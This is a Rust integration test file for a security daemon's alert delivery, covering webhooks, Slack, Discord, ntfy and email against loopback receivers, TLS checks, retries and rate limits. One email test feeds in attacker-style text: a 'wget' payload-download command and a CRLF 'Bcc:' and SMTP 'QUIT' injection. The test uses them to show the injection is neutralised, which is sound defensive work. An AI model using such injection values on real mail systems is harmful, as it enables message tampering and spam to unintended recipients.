//! Alerts against real local receivers: an HTTP receiver written here (std `TcpListener` on
//! 127.0.0.1:0) checks the webhook, Slack, Discord and ntfy payloads, retries and grouping; a
//! real SMTP server (`python3 -m aiosmtpd`, Debian's python3-aiosmtpd) receives the mail.
//! Everything stays on loopback; no root needed.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime};

use ravelin::alert::{self, AlertEvent, AlertKind, Severity};
use ravelin::clock::SystemClock;
use serde_json::Value;

use crate::harness::{BIN, stderr, stdout};

/// One request the receiver got.
#[derive(Debug, Clone)]
struct Req {
    path: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Req {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).expect("JSON body")
    }
}

/// A tiny HTTP receiver: answers 500 to the first `fail_first` requests, 200 afterwards.
struct Receiver {
    port: u16,
    got: Arc<Mutex<Vec<Req>>>,
}

impl Receiver {
    fn start(fail_first: usize) -> Self {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let got = Arc::new(Mutex::new(Vec::new()));
        let seen = Arc::new(AtomicUsize::new(0));
        let g = got.clone();
        std::thread::spawn(move || {
            for s in l.incoming() {
                let Ok(s) = s else { continue };
                let n = seen.fetch_add(1, Ordering::SeqCst);
                if let Some(req) = read_request(&s) {
                    let status = if n < fail_first {
                        "500 Internal Server Error"
                    } else {
                        "200 OK"
                    };
                    let mut w = &s;
                    let _ = write!(
                        w,
                        "HTTP/1.1 {status}\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
                    );
                    if n >= fail_first {
                        g.lock().unwrap().push(req);
                    }
                }
            }
        });
        Self { port, got }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }

    /// Wait until `n` requests were accepted (200), up to `limit`.
    fn wait(&self, n: usize, limit: Duration) -> Vec<Req> {
        let start = Instant::now();
        loop {
            let got = self.got.lock().unwrap().clone();
            if got.len() >= n || start.elapsed() > limit {
                return got;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

fn read_request(s: &TcpStream) -> Option<Req> {
    s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    let mut r = BufReader::new(s);
    let mut line = String::new();
    r.read_line(&mut line).ok()?;
    let path = line.split_whitespace().nth(1)?.to_string();
    assert!(line.starts_with("POST "), "{line}");
    let mut headers = Vec::new();
    loop {
        let mut h = String::new();
        r.read_line(&mut h).ok()?;
        let h = h.trim_end();
        if h.is_empty() {
            break;
        }
        let (k, v) = h.split_once(':')?;
        headers.push((k.trim().to_string(), v.trim().to_string()));
    }
    let len: usize = headers
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case("content-length"))?
        .1
        .parse()
        .ok()?;
    let mut body = vec![0; len];
    r.read_exact(&mut body).ok()?;
    Some(Req {
        path,
        headers,
        body,
    })
}

fn write_secret(dir: &Path, name: &str, value: &str) -> String {
    let p = dir.join(name);
    std::fs::write(&p, format!("{value}\n")).unwrap();
    p.display().to_string()
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

#[test]
fn alert_test_reaches_every_http_sink_with_its_payload_and_never_prints_secrets() {
    let rx = Receiver::start(0);
    let dir = tempfile::tempdir().unwrap();
    let creds = dir.path().join("creds");
    std::fs::create_dir(&creds).unwrap();
    let hook = write_secret(dir.path(), "hook", &rx.url("/hook/SECRET1"));
    let slack = write_secret(dir.path(), "slack", &rx.url("/slack/SECRET2"));
    write_secret(&creds, "discord-url", &rx.url("/discord/SECRET3"));
    let token = write_secret(dir.path(), "ntfy-token", "tk_SECRET5");
    let dead = write_secret(
        dir.path(),
        "dead",
        &format!("http://127.0.0.1:{}/dead/SECRET6", free_port()),
    );
    let config = dir.path().join("ravelin.toml");
    std::fs::write(
        &config,
        format!(
            r#"
[[alert.sink]]
kind = "webhook"          # webhook | slack | discord | ntfy | email
url_file = "{hook}"

[[alert.sink]]
kind = "slack"
url_file = "{slack}"

[[alert.sink]]
kind = "discord"
url_credential = "discord-url"

[[alert.sink]]
name = "phone"
kind = "ntfy"
url_env = "RAVELIN_TEST_NTFY_URL"
token_file = "{token}"

[[alert.sink]]
name = "dead"
kind = "webhook"
url_file = "{dead}"
timeout = "2s"
"#
        ),
    )
    .unwrap();
    let o = Command::new(BIN)
        .args(["alert", "test", "--config"])
        .arg(&config)
        .env("CREDENTIALS_DIRECTORY", &creds)
        .env("RAVELIN_TEST_NTFY_URL", rx.url("/ravelin-SECRET4"))
        .output()
        .unwrap();
    let (out, err) = (stdout(&o), stderr(&o));
    assert_eq!(o.status.code(), Some(1), "one sink is dead: {out}{err}");
    for want in [
        "ok    webhook0 (webhook)",
        "ok    slack1 (slack)",
        "ok    discord2 (discord)",
        "ok    phone (ntfy)",
        "FAIL  dead (webhook): connect to http://127.0.0.1:",
    ] {
        assert!(out.contains(want), "{want:?} not in:\n{out}{err}");
    }
    assert!(
        !out.contains("SECRET") && !err.contains("SECRET"),
        "{out}{err}"
    );

    let mut got = rx.wait(4, Duration::from_secs(5));
    assert_eq!(got.len(), 4, "{got:?}");
    got.sort_by(|a, b| a.path.cmp(&b.path));
    let [discord, hook, ntfy, slack] = &got[..] else {
        unreachable!()
    };
    assert_eq!(hook.path, "/hook/SECRET1");
    assert_eq!(hook.header("content-type"), Some("application/json"));
    let v = hook.json();
    assert_eq!(v["schema"], "ravelin.alert.v1");
    assert_eq!(v["shape"], "test");
    assert_eq!(v["title"], "test alert");
    assert!(v["time"].as_str().unwrap().ends_with('Z'));

    assert_eq!(slack.path, "/slack/SECRET2");
    let text = slack.json()["text"].as_str().unwrap().to_string();
    assert!(
        text.starts_with("*[INFO] ") && text.contains("test alert*"),
        "{text}"
    );

    assert_eq!(discord.path, "/discord/SECRET3");
    let v = discord.json();
    assert!(v["content"].as_str().unwrap().contains("test alert"), "{v}");
    assert_eq!(v["allowed_mentions"]["parse"], serde_json::json!([]));

    assert_eq!(ntfy.path, "/ravelin-SECRET4");
    assert!(ntfy.header("title").unwrap().ends_with(": test alert"));
    assert_eq!(ntfy.header("priority"), Some("1"));
    assert_eq!(ntfy.header("tags"), Some("ravelin,test"));
    assert_eq!(ntfy.header("authorization"), Some("Bearer tk_SECRET5"));
    assert!(String::from_utf8_lossy(&ntfy.body).contains("can reach this channel"));
}

fn config_with(text: &str) -> alert::AlertConfig {
    let v: toml::Value = toml::from_str(text).unwrap();
    alert::parse_alert_config(&v["alert"]).unwrap()
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
}

#[test]
fn a_failing_receiver_is_retried_with_backoff_until_it_recovers() {
    let rx = Receiver::start(2);
    let dir = tempfile::tempdir().unwrap();
    let hook = write_secret(dir.path(), "hook", &rx.url("/hook"));
    let cfg = config_with(&format!(
        "[[alert.sink]]\nkind = \"webhook\"\nurl_file = \"{hook}\"\nretries = 3\nbackoff = \"200ms\"\n"
    ));
    let rt = runtime();
    let started = Instant::now();
    let snap = rt.block_on(async {
        let (h, task) = alert::spawn(&cfg, Arc::new(SystemClock));
        assert!(h.emit(AlertEvent::new(
            AlertKind::Health,
            Severity::High,
            SystemTime::now(),
            "enforcement errors: nft failed 3 times",
        )));
        let counters = h.counters().clone();
        drop(h);
        task.await.unwrap();
        counters.snapshot()
    });
    let got = rx.wait(1, Duration::from_secs(1));
    assert_eq!(got.len(), 1);
    let v = got[0].json();
    assert_eq!(
        (v["kind"].as_str(), v["severity"].as_str()),
        (Some("health"), Some("high"))
    );
    assert_eq!(
        (snap.sent, snap.failed, snap.retries),
        (1, 0, 2),
        "{snap:?}"
    );
    // Backoff 200 ms then 400 ms.
    assert!(
        started.elapsed() >= Duration::from_millis(600),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn three_hundred_bans_from_one_slash16_are_one_alert_and_one_campaign() {
    let rx = Receiver::start(0);
    let dir = tempfile::tempdir().unwrap();
    let hook = write_secret(dir.path(), "hook", &rx.url("/hook"));
    let cfg = config_with(&format!(
        "[alert]\ngroup_window = \"2s\"\n[[alert.sink]]\nkind = \"webhook\"\nurl_file = \"{hook}\"\n"
    ));
    let rt = runtime();
    let snap = rt.block_on(async {
        let (h, task) = alert::spawn(&cfg, Arc::new(SystemClock));
        for i in 0..300u32 {
            let target = format!("198.51.{}.{}/32", i / 250, i % 250 + 1);
            assert!(h.emit(AlertEvent::ban(
                SystemTime::now(),
                target.parse().unwrap(),
                "sshd".into(),
                "threshold",
                "5 failures in 10m",
            )));
        }
        // The campaign comes when the window closes, while the dispatcher runs.
        tokio::time::sleep(Duration::from_millis(3500)).await;
        let counters = h.counters().clone();
        drop(h);
        task.await.unwrap();
        counters.snapshot()
    });
    let got = rx.wait(2, Duration::from_secs(1));
    assert_eq!(got.len(), 2, "{got:?}");
    let first = got[0].json();
    assert_eq!(first["shape"], "single");
    assert_eq!(first["target"], "198.51.0.1/32");
    let c = got[1].json();
    assert_eq!(c["shape"], "campaign");
    assert_eq!(c["prefix"], "198.51.0.0/16");
    assert_eq!(c["count"], 299);
    assert_eq!(c["severity"], "high");
    assert!(
        c["text"].as_str().unwrap().contains("jails: sshd 299"),
        "{c}"
    );
    assert_eq!(
        (snap.received, snap.grouped, snap.sent),
        (300, 299, 2),
        "{snap:?}"
    );
}

/// Debian's python (a pyenv or venv python3 first on PATH may lack the Debian packages).
const PYTHON: &str = "/usr/bin/python3";

/// Debian's aiosmtpd, printing what it receives (`-c aiosmtpd.handlers.Debugging`, the
/// default handler); killed on drop.
struct Smtpd {
    child: Child,
    port: u16,
}

impl Drop for Smtpd {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Smtpd {
    /// Whether Debian's python3-aiosmtpd is there (else a note says the test is skipped).
    fn available() -> bool {
        let ok = Command::new(PYTHON)
            .args(["-c", "import aiosmtpd"])
            .output()
            .map(|o| o.status.success())
            .unwrap_or(false);
        if !ok {
            eprintln!("SKIP: python3-aiosmtpd is not installed (apt-get install python3-aiosmtpd)");
        }
        ok
    }

    fn start() -> Option<Self> {
        if !Self::available() {
            return None;
        }
        let python = PYTHON;
        let port = free_port();
        let child = Command::new(python)
            .args(["-u", "-m", "aiosmtpd", "-n", "-l"])
            .arg(format!("127.0.0.1:{port}"))
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let start = Instant::now();
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(
                start.elapsed() < Duration::from_secs(10),
                "aiosmtpd did not start"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        Some(Self { child, port })
    }

    /// Everything printed so far (after stopping the server).
    fn stop(mut self) -> String {
        let _ = self.child.kill();
        let mut s = String::new();
        if let Some(mut o) = self.child.stdout.take() {
            let _ = o.read_to_string(&mut s);
        }
        s
    }
}

#[test]
fn email_reaches_a_local_smtp_server() {
    let Some(smtpd) = Smtpd::start() else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("ravelin.toml");
    let sink = format!(
        r#"
[[alert.sink]]
kind = "email"
smtp_host = "127.0.0.1"
smtp_port = {}
tls = "none"
from = "ravelin@example.org"
to = ["ops@example.org", "oncall@example.org"]
"#,
        smtpd.port
    );
    std::fs::write(&config, &sink).unwrap();
    let o = Command::new(BIN)
        .args(["alert", "test", "--config"])
        .arg(&config)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    assert!(
        stdout(&o).contains("ok    email0 (email)"),
        "{}",
        stdout(&o)
    );

    // And a real alert through the dispatcher, with attacker text in it.
    let cfg = config_with(&sink);
    runtime().block_on(async {
        let (h, task) = alert::spawn(&cfg, Arc::new(SystemClock));
        h.emit(AlertEvent::new(
            AlertKind::Decoy,
            Severity::Critical,
            SystemTime::now(),
            "decoy session reached download: wget http://x/.payload\r\nBcc: victim@example.org\n.\nQUIT",
        ));
        let c = h.counters().clone();
        drop(h);
        task.await.unwrap();
        assert_eq!(c.snapshot().sent, 1, "{:?}", c.snapshot());
    });
    let printed = smtpd.stop();
    assert_eq!(
        printed
            .matches("---------- MESSAGE FOLLOWS ----------")
            .count(),
        2,
        "{printed}"
    );
    assert!(printed.contains("Subject: [ravelin] [INFO] "), "{printed}");
    assert!(
        printed.contains("Subject: [ravelin] [CRITICAL] ")
            && printed.contains("wget http://x/.payload"),
        "{printed}"
    );
    assert!(
        printed.contains("To: ops@example.org, oncall@example.org"),
        "{printed}"
    );
    // The injected header stayed inside the summary text.
    assert!(!printed.contains("\nBcc:"), "{printed}");
}

/// A throwaway CA and a leaf for `localhost` / 127.0.0.1, made with the openssl CLI.
/// Returns (ca.pem, leaf.pem, leaf.key), or `None` (with a note) without openssl.
fn make_certs(dir: &Path) -> Option<(String, String, String)> {
    let run = |args: &[&str]| {
        Command::new("openssl")
            .args(args)
            .current_dir(dir)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .map(|s| s.success())
            .unwrap_or(false)
    };
    let ec = [
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
    ];
    std::fs::write(
        dir.join("leaf.ext"),
        "subjectAltName=DNS:localhost,IP:127.0.0.1\nbasicConstraints=CA:FALSE\nkeyUsage=digitalSignature\nextendedKeyUsage=serverAuth\n",
    )
    .unwrap();
    let ok = run(&[
        &["req", "-x509"][..],
        &ec,
        &[
            "-keyout",
            "ca.key",
            "-out",
            "ca.pem",
            "-days",
            "2",
            "-subj",
            "/CN=ravelin test CA",
        ],
    ]
    .concat())
        && run(&[
            &["req"][..],
            &ec,
            &[
                "-keyout",
                "leaf.key",
                "-out",
                "leaf.csr",
                "-subj",
                "/CN=localhost",
            ],
        ]
        .concat())
        && run(&[
            "x509",
            "-req",
            "-in",
            "leaf.csr",
            "-CA",
            "ca.pem",
            "-CAkey",
            "ca.key",
            "-CAcreateserial",
            "-out",
            "leaf.pem",
            "-days",
            "2",
            "-extfile",
            "leaf.ext",
        ]);
    if !ok {
        eprintln!("SKIP: openssl could not make test certificates (apt-get install openssl)");
        return None;
    }
    let p = |n: &str| dir.join(n).display().to_string();
    Some((p("ca.pem"), p("leaf.pem"), p("leaf.key")))
}

/// An HTTPS receiver (Python's http.server behind ssl), printing "POST <path> <body>" lines.
const HTTPS_RECEIVER: &str = r#"
import http.server, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        b = self.rfile.read(int(self.headers['Content-Length']))
        print("POST", self.path, b.decode(), flush=True)
        self.send_response(200); self.send_header('Content-Length', '0'); self.end_headers()
    def log_message(self, *a): pass
s = http.server.HTTPServer(('127.0.0.1', 0), H)
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain(sys.argv[1], sys.argv[2])
s.socket = c.wrap_socket(s.socket, server_side=True)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;

struct Killed(Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn wait_port(port: u16) {
    let start = Instant::now();
    while TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "server on {port} did not start"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn tls_sinks_verify_the_certificate_https_starttls_and_implicit() {
    if !Smtpd::available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let Some((ca, cert, key)) = make_certs(dir.path()) else {
        return;
    };
    let mut https = Command::new(PYTHON)
        .args(["-u", "-c", HTTPS_RECEIVER, &cert, &key])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut https_out = BufReader::new(https.stdout.take().unwrap());
    let https = Killed(https);
    let mut line = String::new();
    https_out.read_line(&mut line).unwrap();
    let https_port: u16 = line.trim().parse().unwrap();

    let smtpd = |flags: [&str; 2]| {
        let port = free_port();
        let child = Command::new(PYTHON)
            .args([
                "-u",
                "-m",
                "aiosmtpd",
                "-n",
                "-l",
                &format!("127.0.0.1:{port}"),
            ])
            .args([flags[0], &cert, flags[1], &key])
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        wait_port(port);
        (Killed(child), port)
    };
    let (mut starttls, starttls_port) = smtpd(["--tlscert", "--tlskey"]);
    let (mut implicit, implicit_port) = smtpd(["--smtpscert", "--smtpskey"]);

    let url = write_secret(
        dir.path(),
        "url",
        &format!("https://127.0.0.1:{https_port}/hook/SECRET"),
    );
    let email = |name: &str, port: u16, tls: &str, ca_line: &str| {
        format!(
            "[[alert.sink]]\nname = \"{name}\"\nkind = \"email\"\nsmtp_host = \"127.0.0.1\"\nsmtp_port = {port}\ntls = \"{tls}\"\nfrom = \"ravelin@example.org\"\nto = [\"ops@example.org\"]\ntimeout = \"5s\"\n{ca_line}\n"
        )
    };
    let trusted = format!("ca_file = \"{ca}\"");
    let config = dir.path().join("ravelin.toml");
    std::fs::write(
        &config,
        format!(
            "[[alert.sink]]\nname = \"https\"\nkind = \"webhook\"\nurl_file = \"{url}\"\n{trusted}\n\n[[alert.sink]]\nname = \"https-untrusted\"\nkind = \"webhook\"\nurl_file = \"{url}\"\n\n{}{}{}",
            email("starttls", starttls_port, "starttls", &trusted),
            email("implicit", implicit_port, "implicit", &trusted),
            email("starttls-untrusted", starttls_port, "starttls", ""),
        ),
    )
    .unwrap();
    let o = Command::new(BIN)
        .args(["alert", "test", "--config"])
        .arg(&config)
        .output()
        .unwrap();
    let out = stdout(&o);
    assert_eq!(o.status.code(), Some(1), "{out}{}", stderr(&o));
    for want in [
        "ok    https (webhook)",
        "ok    starttls (email)",
        "ok    implicit (email)",
        "FAIL  https-untrusted (webhook): TLS handshake with https://127.0.0.1:",
        "FAIL  starttls-untrusted (email): smtp TLS handshake: invalid peer certificate",
    ] {
        assert!(out.contains(want), "{want:?} not in:\n{out}{}", stderr(&o));
    }
    assert!(!out.contains("SECRET"), "{out}");
    line.clear();
    https_out.read_line(&mut line).unwrap();
    assert!(line.starts_with("POST /hook/SECRET {"), "{line}");
    drop(https);

    for (child, n) in [(&mut starttls.0, 1), (&mut implicit.0, 1)] {
        let _ = child.kill();
        let mut s = String::new();
        child.stdout.take().unwrap().read_to_string(&mut s).unwrap();
        assert_eq!(s.matches("MESSAGE FOLLOWS").count(), n, "{s}");
        assert!(s.contains("Subject: [ravelin] [INFO] "), "{s}");
    }
}

fn health(i: usize) -> AlertEvent {
    AlertEvent::new(
        AlertKind::Health,
        Severity::High,
        SystemTime::now(),
        &format!("source {i} went silent"),
    )
}

#[test]
fn the_rate_limit_caps_each_sink_per_hour() {
    let rx = Receiver::start(0);
    let dir = tempfile::tempdir().unwrap();
    let hook = write_secret(dir.path(), "hook", &rx.url("/hook"));
    let cfg = config_with(&format!(
        "[[alert.sink]]\nkind = \"webhook\"\nurl_file = \"{hook}\"\nmax_per_hour = 2\n"
    ));
    let snap = runtime().block_on(async {
        let (h, task) = alert::spawn(&cfg, Arc::new(SystemClock));
        for i in 0..5 {
            h.emit(health(i));
        }
        // The same event again is a duplicate, not a rate-limit case.
        h.emit(health(0));
        let c = h.counters().clone();
        drop(h);
        task.await.unwrap();
        let s = c.snapshot();
        assert_eq!(c.sinks[0].rate_limited.load(Ordering::Relaxed), 3);
        s
    });
    assert_eq!(rx.wait(2, Duration::from_secs(1)).len(), 2);
    assert_eq!((snap.sent, snap.suppressed), (2, 4), "{snap:?}");
}

#[test]
fn a_dead_sink_never_blocks_the_daemon_and_memory_stays_bounded() {
    // Accepts connections and never answers.
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for s in l.incoming() {
            held.push(s);
        }
    });
    let dir = tempfile::tempdir().unwrap();
    let hook = write_secret(dir.path(), "hook", &format!("http://127.0.0.1:{port}/"));
    let cfg = config_with(&format!(
        "[alert]\nqueue = 100\n[[alert.sink]]\nkind = \"webhook\"\nurl_file = \"{hook}\"\ntimeout = \"30s\"\nmax_per_hour = 100000\n"
    ));
    let rt = runtime();
    let (c, emit_time) = rt.block_on(async {
        let (h, _task) = alert::spawn(&cfg, Arc::new(SystemClock));
        let start = Instant::now();
        for i in 0..5000 {
            h.emit(health(i));
            if i % 50 == 0 {
                tokio::task::yield_now().await;
            }
        }
        let emit_time = start.elapsed();
        tokio::time::sleep(Duration::from_millis(300)).await;
        (h.counters().clone(), emit_time)
    });
    rt.shutdown_background();
    assert!(
        emit_time < Duration::from_secs(1),
        "emit blocked: {emit_time:?}"
    );
    let get = |a: &std::sync::atomic::AtomicU64| a.load(Ordering::Relaxed);
    let (received, input_dropped) = (get(&c.received), get(&c.dropped));
    let sink_dropped = get(&c.sinks[0].dropped);
    // Every event was either queued or dropped and counted at once; of the queued ones, all
    // but the sink's queue (100) and the one in flight were dropped and counted too.
    assert_eq!(received + input_dropped, 5000);
    assert!(sink_dropped >= received - 101, "{:?}", c.snapshot());
    assert_eq!(c.snapshot().sent, 0);
}

/// aiosmtpd with STARTTLS required and AUTH (only over TLS) for ravelin / "s3cret pass";
/// prints "AUTH <ok>" and "MAIL <authenticated> <envelope recipients>" lines.
const SMTP_AUTH_SERVER: &str = r#"
import ssl, sys, time
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult
class Handler:
    async def handle_DATA(self, server, session, envelope):
        print("MAIL", session.authenticated, ",".join(envelope.rcpt_tos), flush=True)
        return "250 OK"
def auth(server, session, envelope, mechanism, data):
    ok = data.login == b"ravelin" and data.password == b"s3cret pass"
    print("AUTH", mechanism, ok, flush=True)
    return AuthResult(success=ok)
ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
ctx.load_cert_chain(sys.argv[1], sys.argv[2])
c = Controller(Handler(), hostname="127.0.0.1", port=int(sys.argv[3]), tls_context=ctx,
               require_starttls=True, authenticator=auth, auth_require_tls=True)
c.start()
print("READY", flush=True)
while True:
    time.sleep(3600)
"#;

#[test]
fn smtp_auth_goes_over_starttls_with_the_password_from_a_file() {
    if !Smtpd::available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let Some((ca, cert, key)) = make_certs(dir.path()) else {
        return;
    };
    let port = free_port();
    let mut child = Command::new(PYTHON)
        .args(["-u", "-c", SMTP_AUTH_SERVER, &cert, &key, &port.to_string()])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut server_out = BufReader::new(child.stdout.take().unwrap());
    let server = Killed(child);
    let mut line = String::new();
    server_out.read_line(&mut line).unwrap();
    assert_eq!(line.trim(), "READY");
    let good = write_secret(dir.path(), "pw", "s3cret pass");
    let sink = |name: &str, pw: &str| {
        format!(
            "[[alert.sink]]\nname = \"{name}\"\nkind = \"email\"\nsmtp_host = \"127.0.0.1\"\nsmtp_port = {port}\nfrom = \"ravelin@example.org\"\nto = [\"ops@example.org\", \"oncall@example.org\"]\nusername = \"ravelin\"\npassword_file = \"{pw}\"\nca_file = \"{ca}\"\nretries = 0\n"
        )
    };
    let config = dir.path().join("ravelin.toml");
    std::fs::write(&config, sink("good", &good)).unwrap();
    let o = Command::new(BIN)
        .args(["alert", "test", "--config"])
        .arg(&config)
        .output()
        .unwrap();
    let (out, err) = (stdout(&o), stderr(&o));
    // (A wrong password is not tested here: aiosmtpd 1.4 never answers a failed AUTH.)
    assert!(o.status.success(), "{out}{err}");
    assert!(out.contains("ok    good (email)"), "{out}{err}");
    assert!(!out.contains("pass") && !err.contains("pass"), "{out}{err}");
    drop(server);
    let mut rest = String::new();
    server_out.read_to_string(&mut rest).unwrap();
    assert!(rest.contains("AUTH PLAIN True"), "{rest}");
    assert_eq!(
        rest.matches("MAIL True ops@example.org,oncall@example.org")
            .count(),
        1,
        "{rest}"
    );
}

#[test]
fn low_severity_goes_to_the_digest_and_each_sink_gets_what_it_asked_for() {
    let rx = Receiver::start(0);
    let dir = tempfile::tempdir().unwrap();
    let all = write_secret(dir.path(), "all", &rx.url("/all"));
    let pager = write_secret(dir.path(), "pager", &rx.url("/pager"));
    let cfg = config_with(&format!(
        "[[alert.sink]]\nkind = \"webhook\"\nurl_file = \"{all}\"\n\n[[alert.sink]]\nkind = \"webhook\"\nurl_file = \"{pager}\"\nmin_severity = \"critical\"\ndigest = false\n"
    ));
    runtime().block_on(async {
        let (h, task) = alert::spawn(&cfg, Arc::new(SystemClock));
        for i in 1..=3 {
            let t = format!("203.0.113.{i}/32").parse().unwrap();
            h.emit(AlertEvent::unban(
                SystemTime::now(),
                t,
                "sshd".into(),
                "expired",
            ));
        }
        h.emit(AlertEvent::new(
            AlertKind::Audit,
            Severity::Low,
            SystemTime::now(),
            "new listening port 8080",
        ));
        h.emit(AlertEvent::new(
            AlertKind::Health,
            Severity::Critical,
            SystemTime::now(),
            "enforcement failing: nft exited 1",
        ));
        drop(h);
        // Shutdown flushes the digest.
        task.await.unwrap();
    });
    let mut got = rx.wait(3, Duration::from_secs(2));
    got.sort_by_key(|r| {
        (
            r.path.clone(),
            r.json()["shape"].as_str().unwrap().to_string(),
        )
    });
    let seen: Vec<(String, String, String)> = got
        .iter()
        .map(|r| {
            let v = r.json();
            (
                r.path.clone(),
                v["shape"].as_str().unwrap().into(),
                v["severity"].as_str().unwrap().into(),
            )
        })
        .collect();
    let want = [
        ("/all", "digest", "info"),
        ("/all", "single", "critical"),
        ("/pager", "single", "critical"),
    ];
    assert_eq!(
        seen,
        want.map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string())),
    );
    let digest = got[0].json();
    assert_eq!(digest["count"], 4);
    let text = digest["text"].as_str().unwrap();
    assert!(
        text.contains("unban/info 3") && text.contains("audit/low 1"),
        "{text}"
    );
    assert!(
        text.contains("203.0.113.2/32 (jail sshd): expired"),
        "{text}"
    );
}

mod daemon_alerts {
    use crate::harness::*;

    /// The daemon's own bans reach the operations channel: a ban decided from log lines arrives
    /// as a webhook alert naming the target, jail and detector.
    #[test]
    fn a_ban_by_the_daemon_arrives_at_the_webhook() {
        if !can_run() {
            return;
        }
        let ns = Netns::new();
        // The receiver lives in the daemon's namespace (its loopback is not ours).
        let (port, got) = webhook_in(&ns);
        let s = Setup::new(2, "", "");
        s.add_webhook(port);
        std::fs::write(&s.log, "").unwrap();
        let d = Daemon::start(&ns, &s);
        s.append(&[failed("203.0.113.150", "a"), failed("203.0.113.150", "b")]);
        let got = wait_request(&got, std::time::Duration::from_secs(10), |_| true)
            .unwrap_or_else(|| panic!("no webhook call\n{}", d.log()));
        assert!(got.starts_with("POST /hook"), "{got}");
        assert!(
            got.contains("203.0.113.150") && got.contains("sshd") && got.contains("threshold"),
            "{got}"
        );
        d.stop();
    }

    /// A high-severity audit check that newly fails reaches the channel: the firewall's
    /// default-deny disappears from the namespace between two audit runs.
    #[test]
    fn an_audit_check_that_newly_fails_is_alerted() {
        if !can_run() {
            return;
        }
        let ns = Netns::new();
        // Default deny on input (loopback allowed, so the webhook receiver stays reachable).
        let st = ns
            .cmd("nft")
            .args(["-f", "-"])
            .stdin(std::process::Stdio::piped())
            .spawn()
            .and_then(|mut c| {
                use std::io::Write;
                c.stdin.take().unwrap().write_all(
                    b"table inet t { chain input { type filter hook input priority 0; policy drop; iif lo accept; }; }\n",
                )?;
                c.wait()
            })
            .unwrap();
        assert!(st.success());
        let (port, got) = webhook_in(&ns);
        let s = Setup::new(2, "", "");
        s.add_webhook(port);
        s.add_config("\n[audit]\nevery = \"2s\"\n");
        std::fs::write(&s.log, "").unwrap();
        let d = Daemon::start(&ns, &s);
        // Let the first run learn the standing state, then take the firewall away.
        std::thread::sleep(std::time::Duration::from_secs(6));
        let early: Vec<String> = got.lock().unwrap().clone();
        assert!(
            !early.iter().any(|b| b.contains("fw.default-deny")),
            "alerted before anything changed: {early:?}"
        );
        assert!(
            ns.cmd("nft")
                .args(["delete", "table", "inet", "t"])
                .status()
                .unwrap()
                .success()
        );
        let seen = wait_request(&got, std::time::Duration::from_secs(30), |b| {
            b.contains("audit: fw.default-deny now fails")
        });
        assert!(
            seen.is_some(),
            "no audit alert: {:?}\n{}",
            got.lock().unwrap(),
            d.log()
        );
    }
}
